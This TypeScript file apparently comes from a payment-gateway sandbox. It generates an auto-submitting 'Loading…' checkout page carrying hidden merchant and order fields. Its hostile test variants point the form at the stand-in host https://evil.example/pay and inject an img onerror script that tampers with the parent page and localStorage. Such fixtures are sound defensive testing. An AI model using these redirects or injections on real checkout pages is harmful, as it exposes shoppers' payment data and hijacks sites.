import type { HostileHosted } from '../scenarios/scenario.ts';
import type { SandboxContext } from '../state/world.ts';
import { html, raw } from './html.ts';

interface Asked {
  readonly order_no: string;
  readonly amount: string;
  readonly currency: string;
  readonly website?: string | undefined;
  readonly return_url?: string | undefined;
  readonly shopper_ip?: string | undefined;
  readonly browser_lang?: string | undefined;
}

/** Hidden inputs of the document; only the gateway knows what they mean (C-092). */
const hiddenInputs = (world: SandboxContext, asked: Asked): Readonly<Record<string, string>> => ({
  gbc_id: world.number(8),
  connector_code: 'SANDBOX',
  account_name: 'sandbox',
  webSite: asked.website ?? '',
  pm_id: '1',
  apm_type: '',
  descriptor: 'SANDBOX',
  orderprefix: '',
  rrtimezone: '0',
  ordernumlength: '50',
  sendbgoods: '0',
  replacename: '0',
  send_bank_website: '0',
  replace_up_id: '',
  replace_match_address: '0',
  to_pass_page: '1',
});

/** Inputs that the document's script appends, under the gateway's older names. */
function appendedInputs(world: SandboxContext, asked: Asked): Readonly<Record<string, string>> {
  const values = {
    merNo: world.profile.ids.merchantId,
    gatewayNo: world.profile.ids.accountId,
    orderNo: asked.order_no,
    orderCurrency: asked.currency,
    orderAmount: asked.amount,
    returnUrl: asked.return_url ?? '',
    signInfo: Array.from({ length: 4 }, () => world.id('')).join(''),
    source_request_ip: asked.shopper_ip ?? '',
    default_lang: asked.browser_lang ?? 'en',
  };
  return { ...values, allParams: String(new URLSearchParams(values)) };
}

/** Reads and writes everything it can reach, if nothing stops it. */
const INTRUDER = raw(
  '<img src="x:" alt="" onerror="try{parent.document.title=`owned`}catch(e){}try{localStorage.owned=1}catch(e){}">',
);

/** The document of 4.3: titled as loading, with a form that its own script fills and sends. */
export function loadingDocument(
  world: SandboxContext,
  page: string,
  asked: Asked,
  hostile: HostileHosted | undefined,
): string {
  const inputs = Object.entries(hiddenInputs(world, asked)).map(
    // eslint-disable-next-line lit/no-value-attribute -- this is a document, not a Lit template
    ([name, value]) => html`<input type="hidden" name="${name}" value="${value}" />`,
  );
  const action = hostile === 'otherhost' ? 'https://evil.example/pay' : page;
  const form = html`<form id="pay" name="pay" method="post" action="${action}">${inputs}</form>`;
  return html`<!doctype html>
    <html lang="en">
      <head>
        <meta charset="utf-8" />
        <title>Loading…</title>
      </head>
      <body>
        <p>Loading…</p>
        ${hostile === 'noform' ? '' : form}${hostile === 'xss' ? INTRUDER : ''}
        <script>
          window.onload = function () {
            var form = document.getElementById('pay');
            if (!form) return;
            var values = ${inScript(appendedInputs(world, asked))};
            for (var name in values) {
              var input = document.createElement('input');
              input.type = 'hidden';
              input.name = name;
              input.value = values[name];
              form.appendChild(input);
            }
            form.submit();
          };
        </script>
      </body>
    </html> `;
}

/** JSON that is safe inside a script element: nothing in it closes the element. */
const inScript = (value: unknown) =>
  raw(
    JSON.stringify(value).replace(
      /[<>&\u2028\u2029]/g,
      (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
    ),
  );
